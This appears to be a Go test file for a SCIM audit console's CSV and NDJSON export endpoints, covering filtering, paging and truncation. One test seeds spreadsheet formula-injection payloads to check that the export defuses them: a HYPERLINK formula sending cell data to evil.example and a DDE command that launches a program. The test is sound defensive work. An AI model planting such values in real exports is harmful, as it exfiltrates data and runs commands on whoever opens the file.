package console_test

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/scimtrail/scimtrail/console"
	"github.com/scimtrail/scimtrail/schema"
)

const csvHeader = "timestamp,id,idp_name,action,resource_type,user_email,group_name,resource_id,idp_resource_id,outcome,status_code,error_detail,events,members_added,members_removed,no_op"

// download fetches path and returns the answer, its body and its trailer.
func (f *fixture) download(path string, header ...string) (*http.Response, string) {
	f.t.Helper()
	resp, body := f.do(http.MethodGet, path, bearer(testToken), header...)
	if resp.StatusCode != http.StatusOK {
		f.t.Fatalf("%s: %d %s", path, resp.StatusCode, body)
	}
	return resp, body
}

func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v\n%s", err, body)
	}
	return rows
}

// TestConsole_CSVDefusesFormulas: a CSV opened in a spreadsheet runs a
// cell that starts with = + - @ as a formula; names come from the IdP.
func TestConsole_CSVDefusesFormulas(t *testing.T) {
	evil := schema.Record{
		ID: "0190aaaa-0000-7000-8000-0000000000c1", Timestamp: time.Now().UTC().Add(time.Minute), IdPName: "okta", Action: http.MethodPatch,
		ResourceType: schema.ResourceGroup, GroupName: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		ResourceID: "+cmd|' /C calc'!A0", IdPResourceID: "@SUM(1+1)", Outcome: schema.OutcomeError, StatusCode: http.StatusBadRequest,
		ErrorDetail: "-2+3", UserEmail: "\tx@example.com", Path: "/scim/v2/Groups/x", MembersAdded: []string{"=1+1"},
	}
	f := newFixture(t, evil)
	resp, body := f.download("/api/v1/requests?format=csv&outcome=ERROR")
	if got := resp.Header.Get("Content-Type"); got != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", got)
	}
	if got := resp.Header.Get("Content-Disposition"); got != `attachment; filename="scimtrail-requests.csv"` {
		t.Errorf("Content-Disposition %q", got)
	}
	if got := resp.Trailer.Get(console.ExportTrailer); got != "complete" {
		t.Errorf("trailer %q, want complete", got)
	}
	rows := readCSV(t, body)
	if strings.Join(rows[0], ",") != csvHeader {
		t.Fatalf("header %v", rows[0])
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows, want the header and 2 errors", len(rows))
	}
	row := rows[1]
	if row[1] != evil.ID {
		t.Fatalf("first row %v, want the newest error", row)
	}
	for col, want := range map[int]string{
		5:  "'\tx@example.com",
		6:  `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		7:  "'+cmd|' /C calc'!A0",
		8:  "'@SUM(1+1)",
		11: "'-2+3",
		13: "'=1+1",
	} {
		if row[col] != want {
			t.Errorf("column %s: %q, want %q", rows[0][col], row[col], want)
		}
	}
	// A plain cell is left alone.
	conflict := rows[2]
	if conflict[5] != "alice@example.com" || conflict[10] != "409" || conflict[9] != "ERROR" || conflict[15] != "false" {
		t.Errorf("the 409's row %v", conflict)
	}
}

func TestConsole_DownloadsHoldTheFilteredList(t *testing.T) {
	f := newFixture(t)
	want := f.want(func(r schema.Record) bool { return r.IdPName == "okta" })

	// CSV: a header, then one row per record, newest first.
	_, body := f.download("/api/v1/requests?format=csv&idp=okta")
	rows := readCSV(t, body)
	if strings.Join(rows[0], ",") != csvHeader || len(rows) != len(want)+1 {
		t.Fatalf("%d rows, want a header and %d", len(rows), len(want))
	}
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[1])
		if _, err := time.Parse(time.RFC3339Nano, r[0]); err != nil {
			t.Errorf("timestamp %q: %v", r[0], err)
		}
	}
	if !slices.Equal(got, want) {
		t.Errorf("CSV ids %v, want %v", got, want)
	}
	add := f.find(func(r schema.Record) bool { return r.GroupName == "Engineering" && r.Action == http.MethodPost })
	for _, r := range rows {
		if r[1] == add.ID && (r[12] != "group.created;group.member_added" || r[13] != f.ids["alice"]) {
			t.Errorf("the group's creation: events %q members %q", r[12], r[13])
		}
	}

	// Accept: text/csv asks for the same.
	resp, body2 := f.download("/api/v1/requests?idp=okta", "Accept", "text/csv")
	if body2 != body || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Error("Accept: text/csv does not give the CSV download")
	}

	// NDJSON: one record per line.
	resp, body = f.download("/api/v1/requests?format=ndjson&idp=okta")
	if resp.Header.Get("Content-Disposition") != `attachment; filename="scimtrail-requests.ndjson"` || resp.Header.Get("Content-Type") != "application/x-ndjson" {
		t.Errorf("NDJSON headers %v", resp.Header)
	}
	got = nil
	sc := bufio.NewScanner(strings.NewReader(body))
	for sc.Scan() {
		var rec schema.Record
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		got = append(got, rec.ID)
	}
	if !slices.Equal(got, want) {
		t.Errorf("NDJSON ids %v, want %v", got, want)
	}

	// The list page links to the same downloads, without its paging.
	page := f.get("/ui/requests?idp=okta&limit=5&after=x", http.StatusBadRequest)
	contains(t, "the list page", page, `href="/api/v1/requests?format=csv&amp;idp=okta"`, `href="/api/v1/requests?format=ndjson&amp;idp=okta"`)

	// A limit bounds a download, and the trailer says it was cut.
	resp, body = f.download("/api/v1/requests?format=csv&limit=3")
	if rows := readCSV(t, body); len(rows) != 4 || resp.Trailer.Get(console.ExportTrailer) != "truncated" {
		t.Errorf("limit=3: %d rows, trailer %q", len(rows), resp.Trailer.Get(console.ExportTrailer))
	}
	if resp, _ := f.do(http.MethodGet, "/api/v1/requests?format=xml", asAdmin); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("format=xml: %d", resp.StatusCode)
	}
}

// TestConsole_DownloadFollowsTheCursor stores more records than one
// registry page holds: the download walks every page, once.
func TestConsole_DownloadFollowsTheCursor(t *testing.T) {
	const n = 2300
	start := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	recs := make([]schema.Record, n)
	for i := range recs {
		recs[i] = schema.Record{
			ID: fmt.Sprintf("0190bbbb-0000-7000-8000-%012d", i), Timestamp: start.Add(time.Duration(i/3) * time.Second),
			IdPName: "okta", Action: http.MethodGet, ResourceType: schema.ResourceUser, Outcome: schema.OutcomeSuccess,
			StatusCode: http.StatusOK, Path: "/scim/v2/Users",
		}
	}
	f := newFixtureWith(t, recs, nil)
	resp, body := f.download("/api/v1/requests?format=ndjson")
	seen := map[string]bool{}
	for line := range strings.Lines(body) {
		var rec schema.Record
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatal(err)
		}
		if seen[rec.ID] {
			t.Errorf("%s twice", rec.ID)
		}
		seen[rec.ID] = true
	}
	if len(seen) != n || resp.Trailer.Get(console.ExportTrailer) != "complete" {
		t.Errorf("%d records, trailer %q; want %d, complete", len(seen), resp.Trailer.Get(console.ExportTrailer), n)
	}
	resp, body = f.download("/api/v1/requests?format=csv&limit=1500")
	if rows := readCSV(t, body); len(rows) != 1501 || resp.Trailer.Get(console.ExportTrailer) != "truncated" {
		t.Errorf("limit=1500: %d rows, trailer %q", len(rows)-1, resp.Trailer.Get(console.ExportTrailer))
	}
	// HEAD answers the headers only.
	resp, body = f.do(http.MethodHead, "/api/v1/requests?format=csv", asAdmin)
	if resp.StatusCode != http.StatusOK || body != "" || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Errorf("HEAD: %d %q", resp.StatusCode, body)
	}
}
